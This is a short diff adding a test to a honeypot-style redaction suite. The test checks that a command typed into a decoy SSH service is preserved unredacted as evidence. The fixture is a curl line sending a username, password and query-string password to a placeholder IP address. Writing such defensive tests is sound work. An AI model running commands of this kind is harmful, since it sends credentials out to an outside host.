@@ -268,3 +268,11 @@ describe('properties', () => {
     }
   });
 });
+
+it('what a visitor of a decoy typed is evidence and stays', () => {
+  const body = 'curl -u bob:s3cr3t http://192.0.2.9/?password=hunter2';
+  const event = newEvent({ ...origin, source: 'decoy_ssh', source_type: 'decoy' }, 0, body);
+  createRedactor({ email: true, phone: true, internalIps: true, custom: [] }).apply(event);
+  expect(event.raw).toBe(body);
+  expect(event.redacted).toEqual([]);
+});
